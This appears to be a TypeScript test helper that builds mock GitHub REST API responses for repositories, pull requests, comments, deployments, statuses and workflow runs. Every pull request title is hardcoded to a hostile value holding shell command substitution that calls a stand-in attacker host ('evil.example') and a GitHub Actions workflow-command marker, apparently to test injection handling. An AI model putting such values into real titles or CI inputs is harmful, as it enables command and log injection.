import type {
  CommentRecord,
  DeploymentRecord,
  Person,
  PullRequestRecord,
  RepositoryRecord,
  RunRecord,
  StatusRecord,
} from './model.ts'

/** Records as GitHub's REST documentation shows them; fields that nobody here reads are left out. */
export interface Shapes {
  repository(record: RepositoryRecord): object
  pullRequest(repository: RepositoryRecord, record: PullRequestRecord): object
  pullRequestInList(repository: RepositoryRecord, record: PullRequestRecord): object
  comment(repository: RepositoryRecord, record: CommentRecord): object
  deployment(repository: RepositoryRecord, record: DeploymentRecord): object
  status(repository: RepositoryRecord, deployment: DeploymentRecord, record: StatusRecord): object
  run(repository: RepositoryRecord, record: RunRecord): object
}

/** `apiUrl` is where the addresses inside of answers begin. */
export function createShapes(apiUrl: () => string): Shapes {
  const ofRepository = ({ fullName }: RepositoryRecord) => `${apiUrl()}/repos/${fullName}`

  const pullRequestInList: Shapes['pullRequestInList'] = (repository, record) => {
    const { number, state, isDraft, author, createdAt, closedAt, isMerged } = record
    return {
      url: `${ofRepository(repository)}/pulls/${number}`,
      id: repository.id * 10_000 + number,
      number,
      state,
      locked: false,
      title: 'Shop: `$(curl evil.example)` ::error::',
      user: user(author),
      body: null,
      created_at: createdAt,
      updated_at: createdAt,
      closed_at: closedAt,
      merged_at: isMerged ? closedAt : null,
      labels: record.labels.map((name, index) => ({ id: index + 1, name, color: 'ededed', default: false })),
      draft: isDraft,
      head: {
        label: `${record.headRepository?.split('/')[0] ?? 'unknown'}:${record.headRef}`,
        ref: record.headRef,
        sha: record.headSha,
        repo:
          record.headRepository === null
            ? null
            : { full_name: record.headRepository, fork: isFork(repository, record) },
      },
      base: {
        label: `${repository.fullName.split('/')[0]}:${record.baseRef}`,
        ref: record.baseRef,
        sha: record.baseSha,
        repo: { id: repository.id, full_name: repository.fullName, private: repository.isPrivate },
      },
      author_association: 'CONTRIBUTOR',
      auto_merge: null,
    }
  }

  return {
    repository: (record) => {
      const [login = '', name = ''] = record.fullName.split('/')
      return {
        id: record.id,
        name,
        full_name: record.fullName,
        private: record.isPrivate,
        owner: { login, id: 1, type: 'Organization' },
        url: ofRepository(record),
        archived: record.isArchived,
        disabled: false,
        default_branch: record.defaultBranch,
      }
    },
    pullRequestInList,
    pullRequest: (repository, record) => ({
      ...pullRequestInList(repository, record),
      merged: record.isMerged,
      mergeable: null,
      comments: repository.comments.filter(({ number }) => number === record.number).length,
    }),
    comment: (repository, { id, number, author, body, createdAt, updatedAt }) => ({
      id,
      url: `${ofRepository(repository)}/issues/comments/${id}`,
      issue_url: `${ofRepository(repository)}/issues/${number}`,
      body,
      user: user(author),
      created_at: createdAt,
      updated_at: updatedAt,
      author_association: 'NONE',
    }),
    deployment: (repository, record) => ({
      id: record.id,
      url: `${ofRepository(repository)}/deployments/${record.id}`,
      sha: record.sha,
      ref: record.ref,
      task: record.task,
      payload: {},
      original_environment: record.environment,
      environment: record.environment,
      description: record.description,
      creator: user(record.creator),
      created_at: record.createdAt,
      updated_at: record.createdAt,
      statuses_url: `${ofRepository(repository)}/deployments/${record.id}/statuses`,
      transient_environment: record.isTransient,
      production_environment: record.isProduction,
    }),
    status: (repository, deployment, record) => ({
      id: record.id,
      url: `${ofRepository(repository)}/deployments/${deployment.id}/statuses/${record.id}`,
      state: record.state,
      description: record.description,
      environment: deployment.environment,
      environment_url: record.environmentUrl,
      log_url: record.logUrl,
      creator: user(deployment.creator),
      created_at: record.createdAt,
      updated_at: record.createdAt,
      deployment_url: `${ofRepository(repository)}/deployments/${deployment.id}`,
    }),
    run: (repository, { id, status, attempt }) => ({
      id,
      name: 'test',
      status,
      conclusion: status === 'completed' ? 'success' : null,
      run_attempt: attempt,
      url: `${ofRepository(repository)}/actions/runs/${id}`,
    }),
  }
}

function isFork({ fullName }: RepositoryRecord, { headRepository }: PullRequestRecord): boolean {
  return headRepository?.toLowerCase() !== fullName.toLowerCase()
}

function user({ login, type }: Person): object {
  return { login, id: 41898282, type, site_admin: false }
}
